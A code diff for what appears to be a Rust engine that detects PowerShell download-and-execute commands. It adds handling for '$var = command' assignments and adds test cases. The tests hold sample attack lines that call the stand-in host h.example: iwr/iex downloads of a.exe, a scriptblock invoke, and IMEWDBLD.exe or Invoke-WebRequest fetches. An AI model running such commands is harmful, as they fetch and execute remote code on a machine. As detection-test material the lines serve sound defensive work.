@@ -263,6 +263,18 @@ impl<'c> Engine<'c> {
             }
         }
         if lang == Lang::PowerShell
+            && out.len() > 2
+            && out[1] == "="
+            && c.argv[0].starts_with('$')
+            && !c
+                .text
+                .split_once('=')
+                .is_some_and(|(_, v)| v.trim_start().starts_with(['"', '\'', '@']))
+        {
+            // $r = Invoke-WebRequest …: the command on the right.
+            out.drain(..2);
+        }
+        if lang == Lang::PowerShell
             && let Some(started) = start_process(&out)
         {
             return started;
@@ -715,6 +727,8 @@ mod tests {
             "$s = 'iwr http://h.example/x -OutFile a.exe'; iex $s",
             "[scriptblock]::Create('iwr http://h.example/x -OutFile a.exe').Invoke()",
             "Start-Process -FilePath C:\\W\\IME\\SHARED\\IMEWDBLD.exe -ArgumentList 'https://h.example/a.zip'",
+            "$p = Start-Process C:\\W\\IMEWDBLD.exe -ArgumentList @('https://h.example/a.zip') -PassThru -Wait",
+            "$r = Invoke-WebRequest -Uri https://h.example/a.zip -OutFile a.zip",
         ] {
             assert!(!hits(Lang::PowerShell, src).is_empty(), "{src}");
         }
